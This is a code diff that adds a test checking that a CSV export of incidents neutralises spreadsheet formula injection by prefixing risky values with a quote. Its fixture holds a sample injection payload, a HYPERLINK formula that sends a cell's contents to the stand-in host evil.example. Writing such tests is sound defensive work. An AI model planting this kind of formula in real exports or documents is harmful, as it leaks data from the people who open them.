@@ -88,6 +88,22 @@ def test_csv_export_streams_the_filtered_list(world, client_for):
     assert rows[0]["site"] == "Alpha" and rows[0]["sensor"] == "Mic A"
 
 
+def test_csv_export_keeps_formulas_in_free_text_from_running_in_a_spreadsheet(world, client_for):
+    """CSV injection: a note or a name starting with = + - @ is prefixed with ' (read as text)."""
+    incident = world["b_resolved_critical"]
+    incident.resolution_note = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    incident.save(update_fields=["resolution_note"])
+    incident.sensor.location = "+1 floor, -2 stairs"
+    incident.sensor.save(update_fields=["location"])
+
+    response = client_for(world["manager"]).get(f"/api/v1/incidents/export.csv?site={world['site_b'].pk}")
+
+    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert row["resolution_note"] == """'=HYPERLINK("http://evil.example/?"&A1,"details")"""
+    assert row["location"] == "'+1 floor, -2 stairs"
+    assert row["sensor"] == "Mic B" and row["peak_score"] == "0.9900"  # plain text and numbers unchanged
+
+
 def test_csv_export_accepts_an_explicit_text_csv_request(world, client_for):
     response = client_for(world["manager"]).get("/api/v1/incidents/export.csv", HTTP_ACCEPT="text/csv")
 
